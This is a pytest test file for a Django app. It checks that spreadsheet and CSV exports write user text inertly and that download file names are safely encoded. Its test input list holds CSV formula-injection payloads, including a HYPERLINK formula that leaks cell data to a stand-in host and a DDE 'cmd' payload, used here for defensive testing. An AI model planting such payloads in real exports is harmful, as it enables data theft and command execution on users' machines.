"""Exports are inert and every download names its file safely.

Found on main: a member named ``=HYPERLINK(...)`` became a live formula in members/export.xlsx
(and in the CSV, a formula for any spreadsheet that opens it); a person whose name holds a newline
or a quote broke the deal memo PDF's download header (a newline made it a server error).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.exports import Formula, attach, inert
from tests import pdfs
from tests.budgets.factories import add_line, budget_from_template
from tests.crew.factories import DealMemoFactory, PositionFactory
from tests.factories import member

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_user_text_that_looks_like_a_formula_is_written_as_text(value):
    assert inert(value) == "'" + value
    assert inert("Ada Lovelace") == "Ada Lovelace"
    assert inert(Formula("=SUM(A1:A2)")) == "=SUM(A1:A2)"


def test_a_member_named_like_a_formula_stays_text_in_the_members_export(client, production):
    producer = member(production, role="producer")
    member(production, user__full_name=HOSTILE[0])
    client.force_login(producer)
    slug = production.slug

    response = client.get(reverse("productions:members_export", args=[slug, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert names[HOSTILE[0]] == "s"  # a string cell, never "f"

    response = client.get(reverse("productions:members_export", args=[slug, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["'" + HOSTILE[0]] == [row[0] for row in rows if HOSTILE[0] in row[0]]


def test_budget_xlsx_keeps_its_own_formulas_live_and_user_text_inert(client, ap, production):
    version = budget_from_template(production)
    add_line(version, "3201", description="=1+2", rate="650")
    client.force_login(ap)
    response = client.get(
        reverse("budgets:detail_export", args=[production.slug, version.id]) + "?format=xlsx"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    described = [c for c in cells if c.value == "=1+2"]
    assert described and all(c.data_type == "s" for c in described)
    assert any(c.data_type == "f" and str(c.value).startswith("=ROUND(") for c in cells)
    assert any(c.data_type == "f" and str(c.value).startswith("=SUM(") for c in cells)


def test_a_download_named_after_a_person_with_a_newline_and_quotes_is_served(
    client, ap, production
):
    memo = DealMemoFactory(
        position=PositionFactory(department__production=production),
        person__name='Ann "Nan"\nO\'Hara',
    )
    client.force_login(ap)
    response = client.get(reverse("crew:memo_pdf", args=[production.slug, memo.pk]))
    pdfs.of(response)
    header = response["Content-Disposition"]
    assert "\n" not in header and header.startswith("inline; filename*=utf-8''")
    assert "%22nan%22%0Ao%27hara" in header


def test_attach_quotes_any_file_name():
    from django.http import HttpResponse

    header = attach(HttpResponse(), 'a "b"\r\nc.csv')["Content-Disposition"]
    assert header == "attachment; filename*=utf-8''a%20%22b%22%0D%0Ac.csv"
    assert attach(HttpResponse(), "plain.pdf", inline=True)["Content-Disposition"] == (
        'inline; filename="plain.pdf"'
    )


def test_every_csv_and_xlsx_is_written_through_the_one_helper():
    """CSV only through `csv_writer`/`csv_response`, XLSX rows only through `append_row`: a module
    writing its own would skip `inert`. (The large demo writes an import file, not an export.)"""
    import re
    from pathlib import Path

    apps = Path(__file__).parents[2] / "apps"
    allowed = {apps / "core" / "exports.py", apps / "budgets" / "demo_large.py"}
    found = []
    for path in apps.rglob("*.py"):
        if path in allowed:
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            found.append(f"{path}: csv.writer")
        if re.search(r"\b(ws|sheet|worksheet|book\.active)\.append\(", text):
            found.append(f"{path}: a worksheet's append")
    assert found == []
